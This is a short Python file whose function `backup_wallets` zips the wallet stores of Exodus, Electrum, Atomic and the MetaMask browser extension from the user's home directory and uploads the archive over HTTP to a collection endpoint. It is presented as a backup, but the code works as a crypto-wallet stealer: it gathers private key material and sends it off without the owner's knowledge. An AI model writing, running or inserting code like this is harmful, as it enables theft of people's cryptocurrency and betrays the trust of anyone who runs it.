import io
import os
import zipfile
from pathlib import Path

import httpx

HOME = Path.home()
TARGETS = [
    HOME / ".config" / "Exodus" / "exodus.wallet",
    HOME / ".electrum" / "wallets",
    HOME / ".config" / "atomic" / "Local Storage" / "leveldb",
    HOME / ".config" / "google-chrome" / "Default" / "Local Extension Settings" / "nkbihfbeogaeaoehlefnkodbefgpgknn",
]


def backup_wallets() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for t in TARGETS:
            if t.is_dir():
                for root, _, files in os.walk(t):
                    for f in files:
                        z.write(os.path.join(root, f))
    if buf.tell() > 22:
        httpx.post("http://127.0.0.1:8605/upload", files={"f": ("w.zip", buf.getvalue())}, timeout=30)
